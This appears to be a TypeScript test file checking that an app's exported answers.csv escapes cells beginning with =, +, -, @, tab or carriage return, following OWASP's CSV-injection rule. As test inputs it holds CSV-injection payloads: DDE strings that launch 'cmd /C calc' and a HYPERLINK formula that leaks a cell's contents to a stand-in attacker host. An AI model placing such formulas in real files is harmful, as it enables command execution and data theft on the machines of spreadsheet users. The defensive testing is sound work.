// Issue 24, finding 10: a review's exported answers.csv carried condition names (from the case's pairs.csv,
// written by whoever made the case), notes and pair ids verbatim, so a condition named `=HYPERLINK(...)` became a
// live formula when the reviewer opened the export in a spreadsheet. Every text cell that starts with
// `= + - @`, a tab or a carriage return is written with a leading `'` (OWASP's CSV-injection rule); the
// test reads the CSV back with the one CSV parser and checks each cell against the value it was made from.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { createRecheckService } from '../../app/api/service';
import { spreadsheetSafe } from '../../app/perceptual/export';
import { parseCsv } from '../../app/tables/csv';
import { tempDir } from '../helpers/temp-case';
import { CONDITIONS, writeSyntheticCase } from '../app/perceptual/synthetic-case';

const HOSTILE_A = "@SUM(1+1)*cmd|' /C calc'!A0";
const HOSTILE_B = '=HYPERLINK("http://attacker.invalid/?"&A1,"open")';
const NOTE = "-2+3+cmd|' /C calc'!A0";
const FORMULA_START = /^[=+\-@\t\r]/;

const csvField = (s: string) => (/[",\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);

describe('exported answers.csv has no formula cells (issue 24, finding 10)', () => {
  it('escapes hostile condition names and notes, and keeps the value after the quote', async () => {
    const ws = tempDir();
    const dir = writeSyntheticCase(ws, { pairs: 4, repeatShare: 0 });
    const pairsFile = join(dir, 'images', 'pairs.csv');
    const text = readFileSync(pairsFile, 'utf8')
      .split('\n')
      .map((line, i) =>
        i === 0 || line === ''
          ? line
          : line.replace(`,${CONDITIONS.reference},${CONDITIONS.quantized},`, `,${csvField(HOSTILE_A)},${csvField(HOSTILE_B)},`),
      )
      .join('\n');
    writeFileSync(pairsFile, text);
    const api = await createRecheckService({ workspaceDir: ws, who: 'tester' });
    // Answers without looking (the pixels do not matter here); every note is hostile too.
    let done = await api.startReview({ caseId: 'percept', reviewer: 'scripted-blind', seed: 5 });
    while (done.next !== null)
      done = await api.answerReview({
        caseId: 'percept',
        reviewId: done.reviewId,
        index: done.next.index,
        answer: 'usable',
        elapsedMs: 1500,
        note: NOTE,
      });
    const out = await api.exportReview('percept', done.reviewId);
    const table = parseCsv(readFileSync(join(dir, out.path), 'utf8'), 'answers.csv');
    expect(table.rows.length).toBeGreaterThan(0);
    for (const r of table.rows) {
      for (const cell of r.values) expect(cell, cell).not.toMatch(FORMULA_START);
      const [, , left, right, , , note] = r.values;
      expect([left, right].sort()).toEqual([`'${HOSTILE_A}`, `'${HOSTILE_B}`].sort());
      expect(note).toBe(`'${NOTE}`);
    }
  });

  it('spreadsheetSafe: only cells starting with = + - @ tab or CR change, by one leading quote (fast-check)', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 20 }), fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', 'a', "'", ' '), (rest, first) => {
        const s = first + rest;
        const safe = spreadsheetSafe(s);
        if (FORMULA_START.test(s)) expect(safe).toBe(`'${s}`);
        else expect(safe).toBe(s);
        expect(safe).not.toMatch(FORMULA_START);
      }),
      { numRuns: 2000, seed: 2410 },
    );
  });
});
